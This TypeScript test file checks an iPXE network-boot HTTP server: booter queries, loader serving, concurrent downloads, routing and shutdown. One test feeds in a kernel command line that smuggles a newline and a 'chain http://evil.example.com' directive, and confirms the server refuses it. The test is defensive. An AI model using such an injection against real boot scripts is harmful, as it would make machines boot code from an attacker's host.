import { createHash, randomBytes } from 'node:crypto'
import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, beforeEach, expect, test } from 'vitest'
import { debianLoaders } from '../../../../agent/boot/architecture.ts'
import type { BootEvent } from '../../../../agent/boot/boot-event.ts'
import type { Booter } from '../../../../agent/boot/booter.ts'
import type { BootRoute } from '../../../../agent/boot/http/boot-route.ts'
import { bootRoutes } from '../../../../agent/boot/http/boot-routes.ts'
import { FileCache } from '../../../../agent/boot/http/file-cache.ts'
import { startHttp } from '../../../../agent/boot/http/http-server.ts'
import type { HttpServer } from '../../../../agent/http/serve-http.ts'
import { failingBooter, fixedBooter } from '../fake-booter.ts'

let folder: string
let running: HttpServer | undefined
let events: BootEvent[]
beforeEach(async () => {
  folder = await mkdtemp(join(tmpdir(), 'boot-http-'))
  events = []
})
afterEach(async () => {
  await running?.[Symbol.asyncDispose]()
  await rm(folder, { recursive: true })
})

async function serve(booter: Booter, more: readonly BootRoute[] = []): Promise<string> {
  const report = (event: BootEvent): void => void events.push(event)
  const routes = bootRoutes({
    booter,
    loader: (file, mac) => (mac === '52:54:00:00:00:09' ? { refused: 'looping' } : { path: join(folder, file) }),
    loaders: debianLoaders,
    artifact: (sha256) => join(folder, sha256),
    file: (name) => join(folder, name),
    cache: new FileCache(),
    onScript: () => {},
    onLoader: (mac) => void events.push({ type: 'boot.loop', mac, fetches: 1 }),
    report,
  })
  running = await startHttp({ address: '127.0.0.1', port: 0, routes: [...routes, ...more], now: () => performance.now(), report })
  return `http://127.0.0.1:${running.port}`
}

test('the booter is asked for the machine in the path, with what DHCP put into the query', async () => {
  const booter = fixedBooter({ kind: 'hold', reason: 'not yet' })
  const base = await serve(booter)
  const script = await (await fetch(`${base}/boot/52-54-00-00-00-01/ipxe?arch=7&uuid=33221100-5544-7766-8899-AABBCCDDEEFF`)).text()
  expect(script).toContain('on hold: not yet\n')
  expect(booter.asked).toEqual([
    { mac: '52:54:00:00:00:01', uuid: '33221100-5544-7766-8899-aabbccddeeff', architecture: 'amd64', firmware: 'uefi', userClass: 'iPXE', address: '127.0.0.1' },
  ])
  expect(events).toContainEqual({ type: 'boot.http.script', mac: '52:54:00:00:00:01', client: '127.0.0.1', answer: 'hold' })
})

test('a HEAD request, by which iPXE learns the size, has no effect and takes no script', async () => {
  const base = await serve(fixedBooter({ kind: 'local' }))
  const head = await fetch(`${base}/boot/52-54-00-00-00-01/ipxe`, { method: 'HEAD' })
  const { length } = await (await fetch(`${base}/boot/52-54-00-00-00-01/ipxe`)).text()
  expect(head.headers.get('content-length')).toBe(String(length))
  expect(events.filter(({ type }) => type === 'boot.http.script')).toHaveLength(1)
})

test('a booter that fails, or answers what no script can say, holds the machine', async () => {
  let base = await serve(failingBooter)
  expect(await (await fetch(`${base}/boot/52-54-00-00-00-01/ipxe`)).text()).toContain('could not decide')
  expect(events).toContainEqual({ type: 'boot.booter.failed', mac: '52:54:00:00:00:01', message: 'the state is not there yet' })
  await running?.[Symbol.asyncDispose]()
  base = await serve(fixedBooter({ kind: 'discovery', kernel: '/k', initrd: '/i', commandLine: 'a\nchain http://evil.example.com' }))
  const script = await (await fetch(`${base}/boot/52-54-00-00-00-01/ipxe`)).text()
  expect(script).toContain('on hold')
  expect(script).not.toContain('evil')
})

test('a loader is served to a machine, noted, and refused to one that goes in circles', async () => {
  await writeFile(join(folder, 'ipxe.efi'), 'loader')
  const base = await serve(fixedBooter({ kind: 'local' }))
  const response = await fetch(`${base}/boot/52-54-00-00-00-01/ipxe.efi`)
  expect(await response.text()).toBe('loader')
  expect((await fetch(`${base}/boot/52-54-00-00-00-09/ipxe.efi`)).status).toBe(403)
  expect((await fetch(`${base}/boot/52-54-00-00-00-01/other.efi`)).status).toBe(404)
  expect(events.filter(({ type }) => type === 'boot.loop')).toEqual([{ type: 'boot.loop', mac: '52:54:00:00:00:01', fetches: 1 }])
})

test('fifty at once get a small and a large file whole, and a changed file anew', async () => {
  const small = randomBytes(850_000)
  const large = randomBytes(6_000_000)
  const hash = (bytes: Uint8Array): string => createHash('sha256').update(bytes).digest('hex')
  await writeFile(join(folder, 'small'), small)
  await writeFile(join(folder, hash(large)), large)
  const base = await serve(fixedBooter({ kind: 'local' }))
  const get = async (path: string): Promise<string> => hash(new Uint8Array(await (await fetch(base + path)).arrayBuffer()))
  const paths = Array.from({ length: 50 }, (_, n) => (n % 2 === 0 ? '/boot/files/small' : `/artifacts/sha256/${hash(large)}`))
  const got = await Promise.all(paths.map(get))
  expect(new Set(got)).toEqual(new Set([hash(small), hash(large)]))
  const changed = randomBytes(850_001)
  await writeFile(join(folder, 'small'), changed)
  expect(await get('/boot/files/small')).toBe(hash(changed))
  const sent = (): readonly number[] => events.flatMap((event) => (event.type === 'boot.http.sent' && event.path === '/boot/files/small' ? [event.bytes] : []))
  // The client may have the last byte before the server counts it.
  await expect.poll(() => sent().length).toBe(26)
  for (const bytes of sent()) expect(bytes).toBeGreaterThan(850_000)
})

test('other routes are served beside, the longest prefix first; one that throws is a 500 and reported', async () => {
  const say = (prefix: string, text: string): BootRoute => ({
    prefix,
    handle({ response }) {
      response.end(text)
      return Promise.resolve('done')
    },
  })
  const broken: BootRoute = { prefix: '/broken', handle: () => Promise.reject(new Error('out of order')) }
  const base = await serve(fixedBooter({ kind: 'local' }), [say('/', 'root'), say('/time', 'now'), broken])
  const get = async (path: string): Promise<string> => (await fetch(base + path)).text()
  expect([await get('/x'), await get('/time'), await get('/boot/x')]).toEqual(['root', 'now', '404\n'])
  expect((await fetch(`${base}/broken`)).status).toBe(500)
  expect(events).toContainEqual({ type: 'boot.http.failed', client: '127.0.0.1', path: '/broken', reason: 'out of order' })
})

test('stopping ends what is under way', async () => {
  const asked = Promise.withResolvers<void>()
  const hanging: BootRoute = {
    prefix: '/hang',
    async handle({ signal }) {
      asked.resolve()
      await new Promise((resolve) => signal.addEventListener('abort', resolve, { once: true }))
      return 'done'
    },
  }
  const base = await serve(fixedBooter({ kind: 'local' }), [hanging])
  const waiting = fetch(`${base}/hang`).then(() => 'answered', () => 'cut')
  await asked.promise
  await running?.[Symbol.asyncDispose]()
  running = undefined
  expect(await waiting).toBe('cut')
})
